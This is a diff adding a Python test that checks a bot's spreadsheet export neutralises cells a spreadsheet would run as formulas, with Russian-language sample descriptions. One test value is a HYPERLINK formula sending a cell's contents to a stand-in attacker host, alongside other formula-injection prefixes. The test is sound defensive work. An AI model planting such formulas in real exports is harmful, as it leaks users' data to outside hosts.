@@ -82,3 +82,20 @@ async def test_english_caption(harness, plusofon):
     plusofon.seed(40, 3)
     sent, _, _ = document(await harness.send("/export", language_code="en"))
     assert sent.params["caption"].startswith("Smart numbers: 3")
+
+
+async def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(harness, plusofon):
+    """Issue 11, item 2: every text column, every dangerous first character; read back as the user gets it."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Открыть")'
+    starts = [evil, "+1+2", "-2+3", "@SUM(A1)", "\tтаб", "\rвозврат", "обычное = описание"]
+    for description in starts:
+        plusofon.seed(40, 1, description=description)
+    plusofon.seed(40, 1, phone_b="=1+1", description="телефон-формула")
+    table = rows(document(await harness.send("/export"))[2])
+    described = [row[4] for row in table[1:]]
+    assert described[:-1] == ["'" + text for text in starts[:-1]] + [starts[-1]]
+    phone_b = table[-1][2]
+    assert phone_b == "'=1+1"
+    for row in table[1:]:
+        for cell in row[1:5]:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
